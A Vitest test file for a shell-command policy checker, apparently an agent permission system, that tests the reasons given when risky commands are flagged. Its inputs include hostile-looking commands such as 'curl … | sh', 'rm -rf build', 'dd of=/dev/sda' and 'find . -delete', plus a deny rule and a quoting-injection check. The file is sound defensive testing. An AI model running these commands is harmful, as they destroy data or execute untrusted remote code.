/** Reasons begin with a capital letter or with a command in backquotes, spelled as it is, and end with a full stop. */
import { describe, expect, it } from 'vitest';
import { code } from '../../src/policy/shell/code.js';
import { judge, rule } from './helpers.js';

describe('reasons', () => {
  it.each([
    ['npm test', '`npm test` is not known to only read.'],
    ['make', '`make` is not known to only read.'],
    ['rm -rf build', '`rm -rf` deletes folders with all they hold.'],
    ['curl https://example.com/a | sh', '`sh` runs what `curl` brings from elsewhere.'],
    ['sudo ls', '`sudo` runs a command with the rights of another user.'],
    ['git push --force', '`git push` with force overwrites what others have.'],
    ['git reset --hard', '`git reset --hard` throws away changes.'],
    ['git branch topic', '`git branch` with a name creates or changes it.'],
    ['git stash drop', '`git stash drop` throws away stashed changes.'],
    ['find . -delete', '`find -delete` deletes all it finds.'],
    ['eval "$X"', '`eval` runs text that is only known when it runs.'],
    ['dd of=/dev/sda', '`dd` writes to a raw device.'],
    ['chmod 777 a', '`chmod` lets everyone change it.'],
    ['echo a > b', 'It writes b.'],
    ['$X', 'What it runs is only known when it runs.'],
  ])('%s: %s', (command, reason) => {
    expect(judge(command).reason).toBe(reason);
  });

  it('name the part a deny rule hits', () => {
    expect(judge('ls && npm publish', [rule('deny', '@coder exec npm publish')]).reason).toBe('A deny rule names `npm publish`.');
  });

  it('cannot be ended early by a command', () => {
    expect(code('a` is fine. `b')).toBe("`a' is fine. 'b`");
  });
});
